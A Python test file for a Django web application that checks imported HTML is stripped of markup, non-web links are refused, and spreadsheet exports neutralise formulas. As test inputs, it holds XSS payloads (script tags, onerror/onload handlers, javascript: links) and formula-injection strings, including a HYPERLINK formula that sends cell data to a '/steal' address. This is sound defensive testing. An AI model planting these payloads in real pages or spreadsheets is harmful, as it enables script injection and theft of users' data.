"""Text from outside stays text: imported web pages arrive stripped of markup, links cannot
carry script, and files for spreadsheet programs cannot hold a formula someone typed.

The browser side (payloads in every field stay inert on every page) is test_xss_browser.py.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from uptake.errors import ServiceError
from uptake.evaluations import services
from uptake.evaluations.models import Evaluation
from uptake.followup import services as followup
from uptake.importer.readers import html_to_text, read_bytes
from uptake.results import services as results
from uptake.results.spreadsheets import export_xlsx, read_framework

HOSTILE_PAGE = """<!doctype html>
<html><head><title>Head title</title><style>body { color: red }</style>
<script>window.__xss = 1; document.write("<p>injected</p>")</script></head>
<body>
<!-- a comment <script>alert(1)</script> -->
<h1 onclick="alert(1)">Recommendation 1: Fund &amp; maintain &lt;systems&gt;</h1>
<p>Before <SCRIPT type="text/javascript">alert("upper")</SCRIPT>after.</p>
<p><img src=x onerror="alert(2)">Caf&eacute; &#8220;quoted&#8221; <a href="javascript:alert(3)">link text</a></p>
<noscript>no script text</noscript><template><p>template text</p></template>
<svg onload="alert(4)"><text>svg text</text></svg>
<p>&lt;script&gt;written as text&lt;/script&gt;</p>
</body></html>
"""


def test_an_imported_web_page_keeps_only_its_text() -> None:
    text = html_to_text(HOSTILE_PAGE)
    lines = text.splitlines()
    assert "Recommendation 1: Fund & maintain <systems>" in lines  # entities decoded
    assert "Before after." in lines
    assert "Café “quoted” link text" in lines
    # What a browser would have run or styled never becomes content.
    for dropped in (
        "window.__xss",
        "alert",
        "color: red",
        "Head title",
        "a comment",
        "no script text",
        "template text",
        "svg text",
        "onerror",
        "onclick",
        "javascript:",
        "injected",
    ):
        assert dropped not in text, dropped
    # Markup spelled out as text in the page is the page's text, and stays so.
    assert "<script>written as text</script>" in lines
    assert "<p" not in text.replace("<p>injected", "")


def test_an_uploaded_web_page_is_read_through_the_same_stripping() -> None:
    text = read_bytes(HOSTILE_PAGE.encode("utf-8"), "plan.html")
    assert "Recommendation 1: Fund & maintain <systems>" in text
    assert "alert" not in text and "window.__xss" not in text and "<img" not in text


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "JavaScript:alert(1)//http://x", "data:text/html,<b>x</b>"]
)
def test_evidence_links_that_are_not_web_addresses_are_refused(focal, action, url) -> None:
    with pytest.raises(ServiceError, match="is not a web address"):
        followup.update_submit(
            action=action,
            by=focal,
            status="in_progress",
            narrative="Done in part.",
            links=[followup.EvidenceLink(url=url)],
        )
    assert not action.updates.exists()


@pytest.mark.parametrize("field", ["report_url", "summary_url", "pdf_url"])
def test_evaluation_links_that_are_not_web_addresses_are_refused(evaluator, field) -> None:
    with pytest.raises((ServiceError, ValidationError)):
        services.evaluation_create(by=evaluator, title_en="Links", **{field: "javascript:alert(1)"})
    assert not Evaluation.objects.filter(title_en="Links").exists()


FORMULAS = ['=HYPERLINK("http://example.org","x")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_list_exports_neutralise_text_a_spreadsheet_would_run(client, viewer, evaluator, value):
    services.evaluation_create(by=evaluator, title_en=value)
    client.force_login(viewer)
    url = reverse("reporting:export_evaluations")
    rows = list(csv.DictReader(io.StringIO(client.get(url, {"format": "csv"}).getvalue().decode())))
    assert [r["title_en"] for r in rows] == ["'" + value]
    book = openpyxl.load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content))
    sheet = book.worksheets[0]
    column = [c.value for c in sheet[1]].index("title_en")
    cell = sheet.cell(row=2, column=column + 1)
    assert cell.data_type == "s"
    assert cell.value == "'" + value


def test_the_results_workbook_stores_formula_looking_text_as_text(evaluator) -> None:
    strategy = results.strategy_create(
        by=evaluator, kind="country", title_en="Strategy", subject="Testland",
        start_year=2024, end_year=2026,
    )  # fmt: skip
    statement = '=HYPERLINK("http://example.org/steal?"&A1,"Open")'
    root = results.result_create(strategy=strategy, by=evaluator, statement_en=statement)
    results.indicator_create(result=root, by=evaluator, text_en="=1+1", data_sources="@A1")
    data = export_xlsx(strategy)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name), name  # no formula anywhere
    book = openpyxl.load_workbook(io.BytesIO(data))
    statements = [row[3] for row in book["Results"].iter_rows(min_row=2, values_only=True)]
    assert statements == [statement]  # shown as typed, not run
    # The workbook still imports as it is into another strategy, text unchanged.
    other = results.strategy_create(
        by=evaluator, kind="country", title_en="Copy", subject="Testland",
        start_year=2024, end_year=2026,
    )  # fmt: skip
    framework = read_framework(io.BytesIO(data), other)
    assert [r.statement_en for r in framework.results] == [statement]
